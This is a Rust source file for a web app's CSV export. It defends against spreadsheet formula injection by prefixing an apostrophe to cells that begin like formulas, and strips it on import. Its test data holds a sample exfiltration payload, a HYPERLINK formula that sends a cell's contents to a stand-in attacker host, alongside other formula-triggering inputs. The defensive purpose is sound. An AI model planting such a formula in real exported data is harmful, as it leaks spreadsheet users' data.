//! Files for spreadsheets: CSV as they write and read it.
//!
//! A spreadsheet runs what begins like a formula, whoever wrote it: a lead's name could fetch a page
//! with the whole sheet in its address. [`defused`] puts an apostrophe before it, as spreadsheets do
//! themselves, and [`plain`] takes that away again, so that what was exported is read as it was.

pub mod reading;

use actix_web::HttpResponse;
use actix_web::http::header::{CACHE_CONTROL, CONTENT_DISPOSITION};
use actix_web::web::Bytes;
use futures_util::Stream;

use crate::error::Error;

/// Without it a spreadsheet reads UTF-8 as something else.
const MARK: &[u8] = "\u{feff}".as_bytes();

/// What a cell begins with that a spreadsheet would calculate. A tab or line break before it is
/// skipped by some.
fn is_formula(text: &str) -> bool {
    let first = text
        .trim_start_matches(|c: char| c.is_whitespace())
        .chars()
        .next();
    first.is_some_and(|first| matches!(first, '=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠'))
}

/// The text as a cell that no spreadsheet calculates.
#[must_use]
pub fn defused(text: &str) -> String {
    if is_formula(text) || text.strip_prefix('\'').is_some_and(is_formula) {
        return format!("'{text}");
    }
    text.to_owned()
}

/// A cell's text without the apostrophe that defused it.
#[must_use]
pub fn plain(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if is_formula(rest) || rest.strip_prefix('\'').is_some_and(is_formula) => rest,
        _ => cell,
    }
}

/// Lines of a file, to be sent a part at a time.
pub struct Lines {
    writer: csv::Writer<Vec<u8>>,
}

impl Lines {
    /// The beginning of a file: the mark of its encoding and the columns' names.
    ///
    /// # Errors
    /// Never: memory takes everything.
    pub fn first(columns: &[&str]) -> Result<Bytes, Error> {
        let mut lines = Self::new();
        lines.add(columns)?;
        let mut bytes = MARK.to_vec();
        bytes.extend_from_slice(&lines.finish()?);
        Ok(Bytes::from(bytes))
    }

    #[must_use]
    pub fn new() -> Self {
        let writer = csv::WriterBuilder::new()
            .terminator(csv::Terminator::CRLF)
            .flexible(true)
            .from_writer(Vec::new());
        Self { writer }
    }

    /// Adds a line. Cells are written as they are: [`defused`] is for whoever makes them.
    ///
    /// # Errors
    /// Never: memory takes everything.
    pub fn add<T: AsRef<[u8]>>(&mut self, cells: impl IntoIterator<Item = T>) -> Result<(), Error> {
        self.writer
            .write_record(cells)
            .map_err(|error| Error::Internal(Box::new(error)))
    }

    /// # Errors
    /// Never: memory takes everything.
    pub fn finish(self) -> Result<Bytes, Error> {
        let bytes = self.writer.into_inner();
        bytes
            .map(Bytes::from)
            .map_err(|error| Error::Internal(error.to_string().into()))
    }
}

impl Default for Lines {
    fn default() -> Self {
        Self::new()
    }
}

/// An answer that a browser keeps as a file, sent as it is read.
pub fn download(
    name: &str,
    body: impl Stream<Item = Result<Bytes, Error>> + 'static,
) -> HttpResponse {
    HttpResponse::Ok()
        .content_type("text/csv; charset=utf-8")
        .insert_header((CACHE_CONTROL, "no-store"))
        .insert_header((
            CONTENT_DISPOSITION,
            format!("attachment; filename=\"{name}\""),
        ))
        .streaming(body)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn p6_what_a_spreadsheet_would_calculate_is_defused_and_read_back_as_it_was() {
        for formula in [
            "=HYPERLINK(\"https://evil.example?x=\"&A1)",
            "+1 call me",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            " =1",
            "\r\n@A",
            "＝1",
            "'=1",
        ] {
            let cell = defused(formula);
            assert_eq!(cell, format!("'{formula}"));
            assert_eq!(plain(&cell), formula);
        }
        for text in ["Maya", "", "O'Neil", "'quoted'", "a=b", "5-1", "''"] {
            assert_eq!(defused(text), text);
            assert_eq!(plain(text), text);
        }
    }

    #[test]
    fn p6_lines_are_quoted_where_they_must_be() {
        let mut lines = Lines::new();
        lines
            .add(["a,b", "say \"hi\"", "two\nlines", ""])
            .expect("a line");
        let bytes = lines.finish().expect("bytes");
        assert_eq!(
            &bytes[..],
            b"\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",\r\n"
        );
        let first = Lines::first(&["phone", "name"]).expect("bytes");
        assert_eq!(&first[..], "\u{feff}phone,name\r\n".as_bytes());
    }
}
